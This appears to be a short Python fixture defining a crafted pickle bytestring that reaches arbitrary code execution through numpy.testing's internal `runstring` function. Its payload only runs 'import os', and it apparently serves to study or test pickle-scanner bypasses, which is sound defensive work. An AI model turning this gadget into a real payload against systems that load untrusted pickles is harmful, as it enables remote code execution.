"""numpy.testing's `runstring`: exec by another name."""

PAYLOAD = b"cnumpy.testing._private.utils\nrunstring\n(Vimport os\n}tR."
